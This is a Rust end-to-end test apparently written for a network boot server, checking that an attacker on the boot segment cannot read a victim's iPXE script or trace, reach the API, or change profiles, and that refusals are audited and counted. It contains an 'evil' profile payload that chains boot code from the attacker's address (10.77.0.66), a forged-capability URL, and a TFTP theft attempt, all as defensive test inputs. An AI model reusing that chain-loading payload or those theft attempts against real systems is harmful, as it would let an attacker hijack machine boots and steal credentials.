//! End to end: an attacker on the boot network against a real `fleetboot serve` in its
//! namespace, with the defaults an operator gets by configuring nothing about security.
//!
//! A victim machine leases its address with ISC dhclient; an attacker sits in a second
//! namespace on the same segment, at an address of its choosing. The attacker cannot
//! reach the API or `/metrics` (they are on the server's loopback), cannot read the
//! victim's script (over HTTP or TFTP) or trace, with or without a made-up capability,
//! and its attempts leave no trace of it in the victim's trace. The victim gets both.
//! On the server's host the operator's API refuses every change without a token (401) or
//! with a read token (403) and changes nothing; an admin token's changes are in the audit
//! log, which `fleetboot audit` reads too. Every refusal is counted in `/metrics`.
//!
//! Needs root, dhclient, tftp-hpa and curl; skips otherwise unless `FLEETBOOT_REQUIRE_E2E=1`.

mod common;

use common::{e2e_ready, host, parse_metric, s, Dhclient, Env, BIN, HTTP};
use std::fs;

const VICTIM: &str = "52:54:00:77:00:10";
const VICTIM_SCRIPT: &str = "boot/52-54-00-77-00-10.ipxe";
const ATTACKER: &str = "52:54:00:77:0e:ee";
const ATTACKER_IP: &str = "10.77.0.66";

fn json(body: &[u8]) -> serde_json::Value {
    serde_json::from_slice(body).unwrap_or_else(|e| panic!("not JSON ({e}): {}", String::from_utf8_lossy(body)))
}

#[test]
fn an_attacker_on_the_boot_network_reads_and_changes_nothing() {
    if !e2e_ready("trust_e2e", &["dhclient", "tftp"]) {
        return;
    }
    let mut env = Env::new("trust");
    // The victim's profile carries something worth stealing on its command line.
    let cfg = fs::read_to_string(&env.config).unwrap().replace("panic=-1\" }", "panic=-1 root-password-hash=s3cr3t\" }");
    assert!(cfg.contains("s3cr3t"));
    fs::write(&env.config, cfg).unwrap();
    env.start_server();

    let victim = env.add_client(None, Some(VICTIM));
    let victim_ip = Dhclient::new(&env, &victim, "victim").obtain(&mut env);
    env.ip(&victim.ns, &["addr", "add", &format!("{victim_ip}/24"), "brd", "+", "dev", "eth0"]);
    let attacker = env.add_client(Some(&format!("{ATTACKER_IP}/24")), Some(ATTACKER));

    // The victim gets its own script and trace.
    let (code, body) = env.http(&victim.ns, &[], &format!("{HTTP}/{VICTIM_SCRIPT}"));
    assert_eq!(code, 200, "{}", String::from_utf8_lossy(&body));
    assert!(String::from_utf8_lossy(&body).contains("s3cr3t"));
    let (code, body) = env.http(&victim.ns, &[], &format!("{HTTP}/trace/{VICTIM}"));
    assert_eq!(code, 200);
    assert!(String::from_utf8_lossy(&body).contains("DHCPACK"));

    // The attacker gets neither, over HTTP or TFTP, with or without a made-up capability.
    let refused_paths = [
        format!("/{VICTIM_SCRIPT}"),
        format!("/boot/4102444800.AAAAAAAAAAAAAAAAAAAAAA/{}", &VICTIM_SCRIPT[5..]),
        format!("/trace/{VICTIM}"),
    ];
    for path in &refused_paths {
        let (code, body) = env.http(&attacker.ns, &[], &format!("{HTTP}{path}"));
        assert_eq!(code, 403, "{path}: {}", String::from_utf8_lossy(&body));
        assert!(!String::from_utf8_lossy(&body).contains("s3cr3t"));
    }
    let out = env.dir.join("stolen.ipxe");
    let r = env.run(&attacker.ns, &["tftp", "-m", "binary", "10.77.0.1", "-c", "get", VICTIM_SCRIPT, &s(&out)], 60);
    let said = format!("{}{}", r.stdout_str(), r.stderr);
    assert!(said.contains("Error code 2"), "tftp-hpa was not refused: {said}");
    assert!(fs::read(&out).map(|b| b.is_empty()).unwrap_or(true), "the victim's script reached the attacker");

    // Nothing of the API or the metrics on the boot network.
    for path in ["/api/leases", "/api/profiles", "/api/trace/52:54:00:77:00:10", "/api/images", "/api/audit", "/metrics"] {
        assert_eq!(env.http(&attacker.ns, &[], &format!("{HTTP}{path}")).0, 404, "{path} on the boot listener");
    }
    let evil = r##"{"name":"evil","priority":0,"boot":{"kind":"script","script":"#!ipxe\nchain http://10.77.0.66/x\n"}}"##;
    let post = ["-X", "POST", "-H", "Content-Type: application/json", "--data-binary", evil];
    assert_eq!(env.http(&attacker.ns, &post, &format!("{HTTP}/api/profiles")).0, 404);
    // The API's port answers nobody off the server's host (curl: 000, could not connect).
    let r = env.run(&attacker.ns, &["curl", "-sS", "--max-time", "10", "-o", "/dev/null", "-w", "%{http_code}", "http://10.77.0.1:8081/api/leases"], 30);
    assert!(!r.ok() && r.stdout_str().trim() == "000", "the API answered the boot network: {}", r.stdout_str());

    // The attacker's attempts are nowhere in the victim's trace.
    let trace = env.api(&[], &format!("/api/trace/{VICTIM}")).1;
    let trace = String::from_utf8_lossy(&trace).into_owned();
    assert!(trace.contains("HTTP-SCRIPT"), "{trace}");
    assert!(!trace.contains(ATTACKER_IP), "the attacker's address is in the victim's trace: {trace}");

    // On the server's host: no token, no change; a read token, no change.
    let read_file = env.dir.join("viewer.token");
    host(&[BIN, "token", "create", "--role", "read", "--name", "viewer", "--output", &s(&read_file), "--config", &s(&env.config)], 60);
    let read = fs::read_to_string(&read_file).unwrap().trim().to_string();
    let profiles_before = env.api(&[], "/api/profiles").1;
    let writes: [(&[&str], &str); 3] = [
        (&["-X", "POST", "-H", "Content-Type: application/json", "--data-binary", evil], "/api/profiles"),
        (&["-X", "DELETE"], "/api/profiles/everyone-else"),
        (&["-X", "DELETE"], "/api/images/anything"),
    ];
    let ns = env.server_ns();
    for (extra, path) in writes {
        let (code, body) = env.http(&ns, extra, &format!("{}{path}", common::API));
        assert_eq!(code, 401, "{path} without a token: {}", String::from_utf8_lossy(&body));
        assert_eq!(json(&body)["reason"], "missing");
        let (code, body) = env.api_as(&read, extra, path);
        assert_eq!(code, 403, "{path} with a read token: {}", String::from_utf8_lossy(&body));
    }
    assert_eq!(env.api(&[], "/api/profiles").1, profiles_before, "a refused request changed the profiles");
    let audit = json(&env.api(&[], "/api/audit").1);
    assert!(audit.as_array().unwrap().iter().all(|e| e["action"] != "profile.create" || e["actor"] == "config"), "{audit}");

    // The admin token changes things, and the audit log says who, what, before and after.
    let ok_profile = r##"{"name":"night-shift","priority":20,"match":{"mac":["52:54:00:77:09:*"]},"boot":{"kind":"script","script":"#!ipxe\necho night\n"}}"##;
    let (code, body) = env.api(&["-X", "POST", "-H", "Content-Type: application/json", "--data-binary", ok_profile], "/api/profiles");
    assert_eq!(code, 201, "{}", String::from_utf8_lossy(&body));
    assert_eq!(env.api(&["-X", "DELETE"], "/api/profiles/night-shift").0, 204);
    let audit: serde_json::Value = serde_json::from_str(&host(&[BIN, "audit", "--json", "--config", &s(&env.config)], 60)).unwrap();
    let mine: Vec<_> = audit.as_array().unwrap().iter().filter(|e| e["target"] == "profile/night-shift").collect();
    assert_eq!(mine.len(), 2, "{audit:#}");
    assert_eq!((mine[0]["action"].as_str(), mine[0]["actor"].as_str(), mine[0]["remote"].as_str()), (Some("profile.create"), Some("bootstrap"), Some("127.0.0.1")));
    assert_eq!(mine[0]["after"]["priority"], 20);
    assert_eq!((mine[1]["action"].as_str(), mine[1]["before"]["name"].as_str()), (Some("profile.delete"), Some("night-shift")));
    assert!(mine[1]["after"].is_null());

    // Every refusal was counted.
    let metrics = String::from_utf8_lossy(&env.api(&[], "/metrics").1).into_owned();
    let count = |name: &str| parse_metric(&metrics, name);
    assert_eq!(count("fleetboot_api_auth_failures_total{reason=\"missing\"}"), 3.0, "{metrics}");
    assert_eq!(count("fleetboot_api_auth_failures_total{reason=\"forbidden\"}"), 3.0);
    assert_eq!(count("fleetboot_client_data_refused_total{service=\"http\"}"), 3.0);
    assert_eq!(count("fleetboot_client_data_refused_total{service=\"tftp\"}"), 1.0);
    assert!(env.server_alive());
}
